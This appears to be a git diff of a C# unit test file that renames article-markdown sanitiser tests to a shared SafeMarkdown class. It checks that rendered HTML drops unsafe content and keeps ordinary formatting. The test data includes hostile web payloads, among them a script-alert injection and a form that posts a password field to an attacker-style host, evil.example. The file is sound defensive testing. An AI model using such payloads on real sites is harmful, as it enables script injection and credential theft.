@@ -1,8 +1,8 @@
-using Normative.Features.Content.Articles;
+using Normative.Features.Shared;
 
-namespace Normative.Tests.Features.Content;
+namespace Normative.Tests.Features.Shared;
 
-public class ArticleMarkdownTests
+public class SafeMarkdownTests
 {
     [Theory]
     [InlineData("<script>alert('x')</script>Hello", "<script")]
@@ -18,14 +18,14 @@ public class ArticleMarkdownTests
     [InlineData("<form action=\"https://evil.example\"><input name=\"password\"></form>", "<form")]
     public void ScriptAndUnsafeLinksNeverReachThePage(string markdown, string forbidden)
     {
-        var html = ArticleMarkdown.ToHtml(markdown);
+        var html = SafeMarkdown.ToHtml(markdown);
         Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
     }
 
     [Fact]
     public void OrdinaryMarkdownKeepsItsShape()
     {
-        var html = ArticleMarkdown.ToHtml("# A new guide\n\nRead **this** and [the standard](https://example.org/iso-9001).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
+        var html = SafeMarkdown.ToHtml("# A new guide\n\nRead **this** and [the standard](https://example.org/iso-9001).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
         Assert.Contains("<h1", html, StringComparison.Ordinal);
         Assert.Contains("<strong>this</strong>", html, StringComparison.Ordinal);
         Assert.Contains("href=\"https://example.org/iso-9001\"", html, StringComparison.Ordinal);
@@ -33,5 +33,5 @@ public class ArticleMarkdownTests
     }
 
     [Fact]
-    public void EmptyTextGivesNothing() => Assert.Equal("", ArticleMarkdown.ToHtml("  "));
+    public void EmptyTextGivesNothing() => Assert.Equal("", SafeMarkdown.ToHtml("  "));
 }
